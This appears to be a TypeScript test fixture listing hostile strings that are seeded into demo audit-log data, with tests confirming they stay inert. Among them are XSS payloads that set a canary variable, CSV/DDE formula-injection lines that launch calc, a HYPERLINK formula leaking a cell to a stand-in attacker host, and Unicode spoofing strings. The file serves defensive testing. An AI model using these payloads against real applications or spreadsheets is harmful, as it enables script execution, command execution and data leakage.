/**
 * Strings an attacker can put in an audit log (names, titles, payloads). The generator mixes them into
 * the demo data; tests assert they show as text, run nothing, and stay inert in CSV.
 * Scripts in them set `window.__auditLogsXss`, a canary tests check stays untouched.
 */
export const hostileStrings = [
  '<script>window.__auditLogsXss = true</script>',
  '<img src=x onerror="window.__auditLogsXss = true">',
  '<svg onload="window.__auditLogsXss = true"></svg>',
  'javascript:window.__auditLogsXss = true',
  'data:text/html,<script>window.__auditLogsXss = true</script>',
  '"><svg/onload=window.__auditLogsXss=true>',
  '<a href="javascript:window.__auditLogsXss = true">Open</a>',
  '<iframe srcdoc="<script>parent.__auditLogsXss = true</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__auditLogsXss = true">',
  '=HYPERLINK("https://attacker.invalid/?leak="&A1,"Open report")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  'Robert\u202Eexe.pdf',
  'zero\u200Bwidth\u200Bjoiner',
  '\u2067admin\u2069 \uFEFFroot',
  '"Quoted", with a comma\nand a second line',
  '{{constructor.constructor("window.__auditLogsXss = true")()}}',
] as const
